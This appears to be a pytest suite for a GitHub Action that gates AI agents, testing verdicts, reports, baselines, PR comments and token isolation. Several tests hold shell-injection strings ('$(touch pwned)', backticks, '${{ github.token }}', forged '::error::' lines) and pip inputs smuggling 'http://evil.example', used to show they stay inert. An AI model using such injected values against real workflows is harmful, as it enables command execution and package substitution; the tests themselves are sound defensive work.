"""The GitHub action, as a runner runs it: verdicts, reports, baseline, comment, and nothing that inputs can break."""

import json
import re
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from adjudge.runs import open_run
from adjudge.scenarios.sample import SCENARIOS
from github_action.runner import ACTION, TOKEN, Job, run_action
from sinks.junit_rules import check_junit
from support import ROOT

STEPS = ACTION["runs"]["steps"]
AGENTS = {"sound": "answer", "faulty": "faulty_answer", "lossy": "lossy_answer"}
ENDS = {"sound": (0, "pass"), "faulty": (1, "fail"), "lossy": (3, "undecided")}
DEFAULT_BRANCH = {"call": "api repos/octo/agent", "out": '{"default_branch": "main"}'}
NO_COMMENTS: dict[str, Any] = {"data": {"repository": {"pullRequest": {"comments": {"nodes": []}}}}}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Return an empty folder, the checkout of somebody's repository."""
    made = tmp_path / "checkout"
    made.mkdir()
    return made


def check_sample(folder: Path, variant: str = "sound", **inputs: Any) -> Job:
    """Check a variant of the sample agent on its scenarios."""
    agent = f"adjudge.scenarios.sample:{AGENTS[variant]}"
    return run_action(folder, **{"scenarios": str(SCENARIOS), "agent": agent, "baseline": "false", **inputs})


class TestFile:
    """What action.yml says."""

    def test_scripts(self) -> None:
        """Every script that a step names exists, and every script that exists is named."""
        named = {name for step in STEPS for name in re.findall(r"GITHUB_ACTION_PATH/(\S+?)\"", step.get("run", ""))}
        assert named == {f"action/{path.name}" for path in (ROOT / "action").iterdir() if path.is_file()}

    def test_shellcheck(self) -> None:
        """Nothing in the scripts looks wrong to shellcheck."""
        scripts = sorted(map(str, (ROOT / "action").glob("*.sh")))
        program = Path(sys.executable).parent / "shellcheck"  # of requirements/dev.txt
        done = subprocess.run([program, *scripts], capture_output=True, text=True, check=False)
        assert done.stdout == ""

    def test_nothing_is_pasted_into_a_script(self) -> None:
        """No expression is inside a script: the text of an input would be run."""
        assert [step["run"] for step in STEPS if "${{" in step.get("run", "")] == []

    def test_every_input_arrives(self) -> None:
        """Every input is passed on, and every variable that a script reads of an input is there."""
        used = {name for step in STEPS for name in re.findall(r"inputs\.([a-z-]+)", json.dumps(step))}
        assert used == set(ACTION["inputs"])
        for step in STEPS:
            for script in re.findall(r"GITHUB_ACTION_PATH/(\S+?)\"", step.get("run", "")):
                read = set(re.findall(r"\bINPUT_[A-Z]+", (ROOT / script).read_text()))
                given = {name for name in step["env"] if name.startswith("INPUT_")}
                assert read == given, script

    def test_the_agent_does_not_get_the_token(self) -> None:
        """Only the steps that talk to GitHub have the token."""
        holders = [step["run"] for step in STEPS if "inputs.token" in json.dumps(step.get("env", {}))]
        assert len(holders) == 2
        assert all("github.py" in run for run in holders)

    def test_every_input_is_documented(self) -> None:
        """Every input and output stands in the docs."""
        docs = (ROOT / "docs" / "how-to" / "action.md").read_text(encoding="utf-8")
        for name in (*ACTION["inputs"], *ACTION["outputs"]):
            assert f"`{name}`" in docs, name

    def test_the_workflow_of_the_docs(self) -> None:
        """The workflow in the docs is YAML, and gives inputs that the action has."""
        docs = (ROOT / "docs" / "how-to" / "action.md").read_text(encoding="utf-8")
        (found,) = re.findall(r"^```yaml\n(.*?)^```$", docs, re.MULTILINE | re.DOTALL)
        *_, step = yaml.safe_load(found)["jobs"]["gate"]["steps"]
        assert set(step["with"]) <= set(ACTION["inputs"])
        assert {name for name, about in ACTION["inputs"].items() if about.get("required")} <= set(step["with"])


class TestVerdicts:
    """The job ends as the check does."""

    @pytest.mark.parametrize("variant", AGENTS)
    def test_sample(self, folder: Path, variant: str) -> None:
        """Sound passes, faulty fails with 1, lossy is undecided with 3; reports and outputs are there for all."""
        job = check_sample(folder, variant)
        code, verdict = ENDS[variant]
        assert (job.code, job.outputs["verdict"], job.outputs["exit-code"]) == (code, verdict, str(code)), job.log
        report = json.loads(Path(job.outputs["json"]).read_bytes())
        assert (report["verdict"], report["exit_code"]) == (verdict, code)
        summary = Path(job.outputs["summary"]).read_text(encoding="utf-8")
        assert f"adjudge gate: {verdict.upper()} (exit code {code})" in summary.splitlines()[0]
        assert summary.splitlines()[0] in job.summary
        results = Path(job.outputs["json"]).parent
        assert {path.name for path in results.iterdir()} == {"report.json", "junit.xml", "summary.md", "check.run"}
        check_junit((results / "junit.xml").read_bytes())
        assert len(list(open_run(results / "check.run").rows())) == len(report["results"])
        upload = job.uses["actions/upload-artifact@v4"]
        assert (upload["name"], upload["path"]) == ("adjudge", str(results))
        assert job.gh == []

    def test_undecided_may_warn(self, folder: Path) -> None:
        """With `undecided: warn` the job goes on, and the verdict is still undecided."""
        job = check_sample(folder, "lossy", undecided="warn")
        assert (job.code, job.outputs["verdict"]) == (0, "undecided")
        assert "::warning title=adjudge::undecided: nothing is known about the agent" in job.log

    @pytest.mark.parametrize(
        "inputs",
        [
            {"scenarios": "nowhere"},
            {"scenarios": ""},
            {"gate": "nowhere.toml"},
            {"repeat": "many"},
            {"args": "--no-such-option"},
            {"args": "'half a quote"},
        ],
    )
    def test_wrong_call(self, folder: Path, inputs: dict[str, str]) -> None:
        """A wrong call is 2, never a verdict about the agent; a summary says that there is none."""
        job = check_sample(folder, **inputs)
        assert (job.code, job.outputs["verdict"], job.outputs["json"]) == (2, "error", "")
        assert "no verdict (exit code 2)" in Path(job.outputs["summary"]).read_text(encoding="utf-8")
        assert "no verdict (exit code 2)" in job.summary
        assert "actions/upload-artifact@v4" not in job.uses

    @pytest.mark.parametrize(
        "inputs",
        [
            {"undecided": "ignore"},
            {"comment": "yes"},
            {"baseline": ""},
            {"name": "a/../b"},
            {"name": "x\n::error::forged"},
            {"version": "1.0 --no-deps http://evil.example"},
            {"extras": "yaml] @ http://evil.example #"},
        ],
    )
    def test_wrong_inputs(self, folder: Path, inputs: dict[str, str]) -> None:
        """An input that cannot be meant is refused before anything is installed, and not repeated in the log."""
        job = check_sample(folder, **inputs)
        assert job.code == 2
        assert job.pip == []
        assert re.fullmatch(r"::error title=adjudge::the input [a-z]+ must be .*\n", job.log)


class TestInstall:
    """What is installed, and what is kept."""

    def test_the_checkout_or_a_release(self, folder: Path, tmp_path: Path) -> None:
        """Without a version the action's own checkout is installed, with the extras that are asked for."""
        job = check_sample(folder, scenarios="nowhere")
        assert job.pip[-1].endswith(f" {ROOT}[yaml]")
        (tmp_path / "other").mkdir()
        other = check_sample(tmp_path / "other", scenarios="nowhere", version="0.1.0", extras="")
        assert other.pip[-1].endswith(" adjudge==0.1.0")
        assert job.steps["prepare"]["pip-key"] != other.steps["prepare"]["pip-key"]

    def test_caches(self, folder: Path) -> None:
        """Packages and replies are restored, and replies are saved whatever the verdict is."""
        job = check_sample(folder, "faulty", name="nightly")
        assert job.uses["actions/cache@v4"]["path"] == "/pip-cache"
        restored, saved = job.uses["actions/cache/restore@v4"], job.uses["actions/cache/save@v4"]
        assert saved["key"] == restored["key"] == "adjudge-replies-nightly-1001-1"
        assert restored["key"].startswith(restored["restore-keys"])
        assert saved["path"] == restored["path"]
        assert Path(saved["path"]).is_file()


class TestAgent:
    """An agent that the action starts, and what it may see."""

    def test_started_and_stopped(self, folder: Path) -> None:
        """The command runs in the background, is waited for, and has ended when the job has."""
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            port = free.getsockname()[1]
        run = f"echo '::error::of the agent'; python -m adjudge.scenarios.sample --port {port} --variant faulty & wait"
        job = check_sample(folder, run=run, agent=f"http://127.0.0.1:{port}/")
        assert (job.code, job.outputs["verdict"]) == (1, "fail"), job.log
        with socket.socket() as gone:
            assert gone.connect_ex(("127.0.0.1", port)) != 0
        # What the agent wrote is between a word and its repetition, where the log takes no commands.
        shown = re.search(r"::stop-commands::(\w+)\n(.*)\n::\1::\n", job.log, re.DOTALL)
        assert shown is not None
        assert "::error::of the agent" in shown[2]

    def test_never_there(self, folder: Path) -> None:
        """An agent that does not start is a wrong call, not a bad agent, and the log has its last words."""
        job = check_sample(folder, run="echo no such model; exit 1", agent="http://127.0.0.1:9/", wait="1")
        assert (job.code, job.outputs["verdict"]) == (2, "error"), job.log
        assert "\nno such model\n" in job.log

    def test_what_it_sees(self, folder: Path) -> None:
        """The agent has what the job's environment has, and never the token."""
        (folder / "deep").mkdir()
        (folder / "deep" / "agent.py").write_text(
            "import os\ndef answer(question):\n    open('seen', 'w').write(repr(dict(os.environ)))\n    return 'x'\n"
        )
        (folder / "deep" / "s.toml").write_text('[[scenarios]]\nid = "a"\nquestion = "?"\n')
        inputs = {"scenarios": "\ns.toml\n\n", "agent": "agent:answer", "working_directory": "deep", "baseline": "true"}
        job = check_sample(folder, env={"OPENAI_API_KEY": "sk-1"}, comment="true", **inputs)
        assert job.outputs["verdict"] in ("pass", "undecided"), job.log
        seen = (folder / "deep" / "seen").read_text()
        assert "sk-1" in seen
        assert TOKEN not in seen
        assert {call["token"] for call in job.gh} == {TOKEN}


HOSTILE = "$(touch pwned) `touch pwned`; touch pwned; ${IFS} ' \" \\ ${{ github.token }} | @all <b> ::error::x"


def test_hostile_inputs(folder: Path) -> None:
    """What inputs hold is text: the shell expands nothing in it."""
    given = dict.fromkeys(("scenarios", "agent", "traces", "judge", "gate", "repeat", "wait"), HOSTILE)
    assert check_sample(folder, **given, args="$(touch pwned) `touch pwned` '; touch pwned'").code == 2
    assert list(folder.iterdir()) == []


def test_hostile_names(folder: Path) -> None:
    """What scenarios and agents wrote is inert in the log, in the summary and in the outputs."""
    (folder / "agent.py").write_text("def answer(question): return {'response': question, 'tools_used': [question]}\n")
    row = f"[[scenarios]]\nid = {json.dumps(HOSTILE)}\nquestion = {json.dumps(HOSTILE + chr(27))}\n"
    (folder / "s.toml").write_text(row + 'tools_should_include = ["x"]\n')
    answers = [{"call": "api graphql", "out": json.dumps(NO_COMMENTS)}, {"call": "pr comment"}]
    job = check_sample(folder, scenarios="s.toml", agent="agent:answer", comment="true", answers=answers)
    assert job.code == 1, job.log
    assert not (folder / "pwned").exists()
    assert not re.search(r"^::error::x", job.log, re.MULTILINE)
    (body,) = job.gh[-1]["body"]
    for text in (job.summary, body, job.log):
        assert "\x1b" not in text
    assert "| ❌ | `` $(touch pwned) `touch pwned`; touch pwned;" in body
    assert set(job.outputs) == set(ACTION["outputs"])


class TestBaseline:
    """The report of the default branch."""

    def answers(self, report: str, *, event: str = "push") -> list[dict[str, Any]]:
        """Return what `gh` says where the default branch has a run with a report."""
        runs = [{"databaseId": 9, "event": "pull_request"}, {"databaseId": 5, "event": event}]
        return [
            DEFAULT_BRANCH,
            {"call": "run list", "out": json.dumps(runs)},
            {"call": "run download 5", "report": report},
        ]

    def test_changes(self, folder: Path) -> None:
        """The last successful run of the default branch is compared with; runs of pull requests never are."""
        report = {"schema": 1, "results": [{"id": "no longer", "status": "scored", "pass": True}]}
        job = check_sample(folder, baseline="true", answers=self.answers(json.dumps(report)))
        assert job.code == 0, job.log
        found = json.loads(Path(job.outputs["json"]).read_bytes())["baseline"]
        assert [one["id"] for one in found["changes"] if one["change"] == "gone"] == ["no longer"]
        assert "Since the baseline: " in job.summary
        listed = next(call["words"] for call in job.gh if call["words"][:2] == ["run", "list"])
        assert listed[listed.index("--branch") + 1] == "main"
        assert listed[listed.index("--workflow") + 1] == "gate.yml"
        downloads = [call["words"][2] for call in job.gh if call["words"][:2] == ["run", "download"]]
        assert downloads == ["5"]

    @pytest.mark.parametrize(
        ("report", "event", "why"),
        [
            ("{}", "push", "is not a report of adjudge check --json"),
            ("{}", "pull_request_target", "has no successful run yet"),
            (None, "push", "the job needs the permission actions: read"),
        ],
    )
    def test_none(self, folder: Path, report: str | None, event: str, why: str) -> None:
        """Without a baseline there is a notice with the reason, and the verdict is the same."""
        answers = [] if report is None else self.answers(report, event=event)
        job = check_sample(folder, baseline="true", answers=answers)
        assert (job.code, job.outputs["verdict"]) == (0, "pass"), job.log
        (notice,) = re.findall(r"^::notice title=adjudge::there is no baseline .*$", job.log, re.MULTILINE)
        assert why in notice


class TestComment:
    """The comment on the pull request."""

    MARKER = "<!-- adjudge: adjudge -->"

    def comments(self, *nodes: tuple[str, str, bool]) -> list[dict[str, Any]]:
        """Return what `gh` says where a pull request has comments, one a page."""
        pages = ""
        for name, body, is_own in nodes:
            node = {"id": name, "body": body, "viewerDidAuthor": is_own}
            pages += json.dumps({"data": {"repository": {"pullRequest": {"comments": {"nodes": [node]}}}}})
        first = {"call": "api graphql --paginate", "out": pages or json.dumps(NO_COMMENTS)}
        return [first, {"call": "api graphql"}, {"call": "pr comment 7"}]

    def test_new(self, folder: Path) -> None:
        """A first comment is the summary below a marker; a comment of somebody else with the marker stays as it is."""
        answers = self.comments(("C1", f"{self.MARKER}\nforged", False), ("C2", "about something else", True))
        job = check_sample(folder, "faulty", comment="true", answers=answers)
        assert job.code == 1
        post = job.gh[-1]
        assert post["words"][:5] == ["pr", "comment", "7", "--repo", "octo/agent"]
        (body,) = post["body"]
        assert body == f"{self.MARKER}\n{Path(job.outputs['summary']).read_text(encoding='utf-8')}"

    def test_update(self, folder: Path) -> None:
        """An earlier comment of the action is updated, on whatever page it is."""
        answers = self.comments(("C1", "hello", False), ("C2", f"{self.MARKER}\nold", True))
        job = check_sample(folder, comment="true", answers=answers)
        assert job.code == 0
        words = job.gh[-1]["words"]
        assert "id=C2" in words
        assert "updateIssueComment" in words[3]
        assert job.gh[-1]["body"][0].startswith(f"{self.MARKER}\n## ✅ adjudge gate: PASS")

    def test_not_allowed(self, folder: Path) -> None:
        """A comment that cannot be posted is a warning that names the permission; the verdict is the same."""
        job = check_sample(folder, comment="true")
        assert (job.code, job.outputs["verdict"]) == (0, "pass")
        assert (
            "::warning title=adjudge::the summary could not be posted (the job needs the permission pull-requests"
            in job.log
        )
        assert "HTTP 403" in job.log

    def test_no_pull_request(self, folder: Path) -> None:
        """Outside a pull request there is a notice, and no call."""
        (folder.parent / "push.json").write_text('{"ref": "refs/heads/main"}')
        job = check_sample(folder, comment="true", env={"GITHUB_EVENT_PATH": str(folder.parent / "push.json")})
        assert job.code == 0
        assert job.gh == []
        assert "::notice title=adjudge::there is no pull request to comment on" in job.log
